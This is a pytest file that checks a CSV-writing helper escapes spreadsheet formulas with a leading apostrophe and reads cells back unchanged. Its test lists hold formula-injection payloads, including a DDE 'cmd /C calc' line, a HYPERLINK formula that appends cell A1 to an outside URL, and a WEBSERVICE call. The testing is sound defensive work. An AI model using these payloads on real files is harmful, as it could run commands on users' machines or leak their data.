"""Cells of CSV files: what a spreadsheet would run is written so that it does not."""

import csv
import io

import pandas as pd
import pytest

import records_by_hand
from cnn_study.base import csv_rows
from cnn_study.base.csv_cells import as_given, harmless
from cnn_study.evidence.read import Tables
from cnn_study.tables import csv_files, schemas
from cnn_study.tables.data_package import data_package
from cnn_study.tables.lineage import METRIC
from report_by_hand import PLAIN, Made

RUN = [
    "=1+1",
    '=HYPERLINK("https://a.org/?"&A1)',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1",
    "'=1",
    "''@a",
]
SHOWN = ["", "-", "a", "a=b", "'quoted'", "'", "Intel(R) Xeon(R) CPU @ 2.20GHz", "−4.68", " =1"]
NUMBERS = ["-0.5", "+3", "-1e-05", "+1,593,344", "-0.010782; 0.00766198", "-1 +2", "-8.53\xa0%"]


@pytest.mark.parametrize("text", RUN)
def test_what_would_run_stands_behind_an_apostrophe(text):
    assert harmless(text) == f"'{text}"


@pytest.mark.parametrize("text", SHOWN + NUMBERS)
def test_other_texts_and_numbers_stay(text):
    assert harmless(text) == text


@pytest.mark.parametrize("text", RUN + SHOWN + NUMBERS)
def test_a_cell_gives_the_text_that_was_written(text):
    assert as_given(harmless(text)) == text


def test_a_carriage_return_is_a_space_and_begins_no_row_of_its_own():
    assert harmless("a\r=1+1") == "a =1+1"


def test_rows_are_read_back_whatever_stands_in_them():
    file = io.StringIO(newline="")
    writer = csv.DictWriter(file, ["text"])
    writer.writeheader()
    writer.writerows({"text": harmless(text)} for text in RUN + SHOWN[1:])
    _, *lines = csv_rows.parse(file.getvalue().encode())
    assert [cell for _, cells in lines for cell in cells] == RUN + SHOWN[1:]


TABLE = next(table for table in schemas.TABLES if table.name == "runs").put({METRIC: "accuracy"})


def test_a_table_is_read_as_it_was_written_and_its_numbers_stay(tmp_path):
    rows = [{"experiment": text, "seed": -1, "test_loss": -0.5} for text in [*RUN, "plain"]]
    made = csv_files.frame(TABLE, rows)
    text = csv_files.csv_text(made)
    assert csv_files.text_of(TABLE, rows) == text
    assert "\n'=1+1,-1," in text
    assert "\nplain,-1," in text
    assert ",-0.5," in text
    (tmp_path / TABLE.file).write_text(text, encoding="utf-8", newline="")
    pd.testing.assert_frame_equal(csv_files.read(tmp_path, TABLE), made)


def test_a_record_of_somebody_else_runs_nothing(tmp_path):
    """The name of its processor is a formula; tables hold it harmless, and receipts as it is."""
    formula = '=WEBSERVICE("https://a.org/")'
    made = Made(tmp_path, PLAIN)
    record = records_by_hand.make(made.study, "base", 1)
    provenance = record.provenance.model_copy(update={"processor": formula})
    record = record.model_copy(update={"provenance": provenance})
    records_by_hand.write(made.study, tmp_path, record)
    made.collect()
    text = (tmp_path / "tables" / "runs.csv").read_text(encoding="utf-8")
    assert text.count(',"\'=WEBSERVICE(""https://a.org/"")",') == 1
    assert Tables(made.study, tmp_path / "tables").texts("runs")[0]["processor"] == formula
    assert formula in made.write()
    told = data_package(made.study, [])["description"]
    assert "stands behind one apostrophe more, so that no spreadsheet runs it" in told
